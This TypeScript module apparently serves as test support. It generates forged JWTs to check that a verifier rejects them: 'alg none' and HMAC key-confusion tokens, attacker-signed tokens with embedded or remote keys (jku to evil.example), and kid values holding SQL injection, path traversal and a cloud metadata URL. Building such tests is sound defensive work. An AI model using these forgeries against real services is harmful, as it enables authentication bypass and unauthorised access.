// Forges tokens from a valid one and public data: with its owner's public keys, other keys, other claims.
import { createHmac, createPublicKey } from 'node:crypto'
import { CompactEncrypt, CompactSign, type CryptoKey, exportJWK, generateKeyPair, importJWK, type JWK } from 'jose'

export interface Victim {
  /** A token that is good. */
  readonly token: string
  /** The public key that it verifies with. */
  readonly publicJwk: JWK
}

export interface Forgery {
  readonly name: string
  readonly token: string
}

type Members = Readonly<Record<string, unknown>>

const encode = (part: unknown): string =>
  Buffer.from(typeof part === 'string' ? part : JSON.stringify(part)).toString('base64url')

const parts = (token: string) => {
  const [header = '', claims = '', signature = ''] = token.split('.')
  const read = (part: string) => JSON.parse(Buffer.from(part, 'base64url').toString()) as Members
  return { header: read(header), claims: read(claims), claimsPart: claims, signature }
}

/** RFC 8725 §2.1, RFC 7515 §4.1: the algorithm is the attacker's choice. */
export async function algorithmForgeries({ token, publicJwk }: Victim): Promise<readonly Forgery[]> {
  const { header, claimsPart, claims, signature } = parts(token)
  const headed = (changes: Members, kept = signature) => `${encode({ ...header, ...changes })}.${claimsPart}.${kept}`
  const spki = createPublicKey({ key: publicJwk as never, format: 'jwk' })
  const secrets = {
    'the PEM': spki.export({ type: 'spki', format: 'pem' }).toString(),
    'the DER': spki.export({ type: 'spki', format: 'der' }).toString('latin1'),
    'the JWK': JSON.stringify(publicJwk),
    'the empty secret': '',
  }
  const hmac = (secret: string, alg: 'HS256' | 'HS512') => {
    const unsigned = `${encode({ ...header, alg })}.${claimsPart}`
    const mac = createHmac(`sha${alg.slice(2)}`, Buffer.from(secret, 'latin1')).update(unsigned)
    return `${unsigned}.${mac.digest('base64url')}`
  }
  return [
    ...['none', 'None', 'nOnE', 'none ', '', null, 0, ['none']].map((alg) => ({
      name: `alg ${JSON.stringify(alg)} without signature`,
      token: headed({ alg }, ''),
    })),
    { name: 'alg none with the old signature', token: headed({ alg: 'none' }) },
    ...Object.entries(secrets).flatMap(([name, secret]) =>
      (['HS256', 'HS512'] as const).map((alg) => ({
        name: `${alg} with ${name} for a secret`,
        token: hmac(secret, alg),
      })),
    ),
    ...['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'ES512', 'ES256K', 'EdDSA', 'RSA1_5']
      .filter((alg) => alg !== header['alg'])
      .map((alg) => ({ name: `${alg} in place of ${header['alg']}`, token: headed({ alg }) })),
    { name: 'alg in lower case', token: headed({ alg: String(header['alg']).toLowerCase() }) },
    { name: 'no alg', token: headed({ alg: undefined }) },
    {
      name: 'changed claims under the old signature',
      token: `${token.split('.')[0]}.${encode({ ...claims, x: 1 })}.${signature}`,
    },
    { name: 'an empty signature', token: headed({}, '') },
    { name: 'a signature of zeros', token: headed({}, Buffer.alloc(64).toString('base64url')) },
  ]
}

/** Unregistered keys: one pair of a kind for a whole test file, because RSA keys are slow to make. */
const attackers = new Map<string, Promise<{ readonly privateJwk: JWK; readonly publicJwk: JWK }>>()

async function attackerKey(alg: string): Promise<{ readonly privateKey: CryptoKey; readonly publicJwk: JWK }> {
  const kind = alg.startsWith('ES') ? alg : 'RS256'
  const made =
    attackers.get(kind) ??
    generateKeyPair(kind, { extractable: true }).then(async ({ privateKey, publicKey }) => ({
      privateJwk: await exportJWK(privateKey),
      publicJwk: await exportJWK(publicKey),
    }))
  attackers.set(kind, made)
  const { privateJwk, publicJwk } = await made
  return { privateKey: (await importJWK(privateJwk, alg)) as CryptoKey, publicJwk }
}

/** A text signed with the attacker's key under a header; `crit` and `b64` are signed without a question. */
export async function signedByAttacker(header: Members & { readonly alg: string }, claims: unknown): Promise<string> {
  const { privateKey } = await attackerKey(header.alg)
  const text = typeof claims === 'string' ? claims : JSON.stringify(claims)
  return new CompactSign(new TextEncoder().encode(text)).setProtectedHeader(header).sign(privateKey, {
    crit: { exp: true, 'http://evil.example/': true },
  })
}

const KIDS: readonly unknown[] = [
  ...['../../../dev/null', '/dev/null', 'file:///dev/null', "' OR 1=1 --", "x' UNION SELECT 'y", '%00', '\u0000', ''],
  ...['https://evil.example/jwks', 'http://169.254.169.254/', '__proto__', 'constructor', 'x'.repeat(4000), '*'],
  ...[0, 1, null, true, ['kid'], { kid: 'kid' }],
]

/** RFC 8725 §3.10: the key is in the token, or named by it. `evil` is a URL that must never be requested. */
export async function keyForgeries({ token }: Victim, evil: string): Promise<readonly Forgery[]> {
  const { header, claims } = parts(token)
  const alg = String(header['alg'])
  const { publicJwk } = await attackerKey(alg)
  const kid = header['kid']
  const x5c = [Buffer.from('not a certificate').toString('base64')]
  const signed = async (name: string, changes: Members): Promise<Forgery> => {
    const full = { ...header, ...changes, alg }
    const known = Object.fromEntries(Object.entries(full).filter(([, value]) => value !== undefined))
    return { name, token: await signedByAttacker(known as { alg: string }, claims) }
  }
  return Promise.all([
    signed('another key under the same kid', {}),
    signed('another key without kid', { kid: undefined }),
    signed('jwk', { jwk: { ...publicJwk, kid } }),
    signed('jwk and no kid', { jwk: publicJwk, kid: undefined }),
    signed('jku', { jku: evil }),
    signed('jku and another kid', { jku: evil, kid: 'evil' }),
    signed('jku as a list', { jku: [evil] }),
    signed('x5u', { x5u: evil }),
    signed('x5c', { x5c }),
    signed('x5c and x5t', { x5c, x5t: 'x', 'x5t#S256': 'x' }),
    signed('all at once', { jwk: publicJwk, jku: evil, x5u: evil, x5c }),
    ...KIDS.map((one) => signed(`kid ${JSON.stringify(one).slice(0, 60)}`, { kid: one })),
  ])
}

/** Forms that another parser might read otherwise (RFC 8725 §2.4, §3.11), and forms that cost more than they are worth. */
export async function shapeForgeries({ token, publicJwk }: Victim): Promise<readonly Forgery[]> {
  const { header, claims, claimsPart, signature } = parts(token)
  const alg = String(header['alg'])
  const [headerPart = ''] = token.split('.')
  const twice = (json: string, member: string) => json.replace('{', `{${member},`)
  const attacker = await attackerKey(alg)
  const rsa = (await attackerKey('RS256')).publicJwk
  const jwe = await new CompactEncrypt(new TextEncoder().encode(token))
    .setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', cty: 'JWT' })
    .encrypt((await importJWK(rsa, 'RSA-OAEP-256')) as CryptoKey)
  const deep = `${'{"a":'.repeat(900)}1${'}'.repeat(900)}`
  return [
    { name: 'crit', token: await signedByAttacker({ ...header, alg, crit: ['exp'], exp: 1 }, claims) },
    { name: 'an empty crit', token: `${encode({ ...header, crit: [] })}.${claimsPart}.${signature}` },
    { name: 'b64 false', token: `${encode({ ...header, b64: false, crit: ['b64'] })}.${claimsPart}.${signature}` },
    { name: 'a JWE', token: jwe },
    {
      name: 'nested: the token signed again',
      token: await signedByAttacker({ alg, cty: 'JWT', kid: header['kid'] as string }, token),
    },
    {
      name: 'alg twice in the header',
      token: `${encode(twice(JSON.stringify(header), '"alg":"none"'))}.${claimsPart}.${signature}`,
    },
    {
      name: 'a member twice in the claims',
      token: `${headerPart}.${encode(twice(JSON.stringify(claims), '"iss":"x"'))}.${signature}`,
    },
    { name: 'header nested 900 deep', token: `${encode(deep)}.${claimsPart}.${signature}` },
    { name: 'claims nested 900 deep', token: `${headerPart}.${encode(deep)}.${signature}` },
    { name: 'claims that are a list', token: await signedByAttacker({ ...header, alg }, [claims]) },
    { name: 'claims that are null', token: await signedByAttacker({ ...header, alg }, 'null') },
    {
      name: 'claims that are no UTF-8',
      token: `${headerPart}.${Buffer.from([0x7b, 0xc0, 0x80, 0x7d]).toString('base64url')}.${signature}`,
    },
    {
      name: 'a header with a byte order mark',
      token: `${encode(`\ufeff${JSON.stringify(header)}`)}.${claimsPart}.${signature}`,
    },
    { name: '12 KB', token: `${encode({ ...header, pad: 'x'.repeat(9000) })}.${claimsPart}.${signature}` },
    { name: 'four parts', token: `${token}.` },
    { name: 'five parts', token: `${token}.a.b` },
    { name: 'padding', token: `${headerPart}==.${claimsPart}.${signature}` },
    { name: 'a space in front', token: ` ${token}` },
    { name: 'a line break behind', token: `${token}\n` },
    {
      name: 'JSON serialization',
      token: JSON.stringify({ payload: claimsPart, signatures: [{ protected: headerPart, signature }] }),
    },
    {
      name: 'the other key for a signature',
      token: `${headerPart}.${claimsPart}.${encode(JSON.stringify(attacker.publicJwk ?? publicJwk))}`,
    },
  ]
}
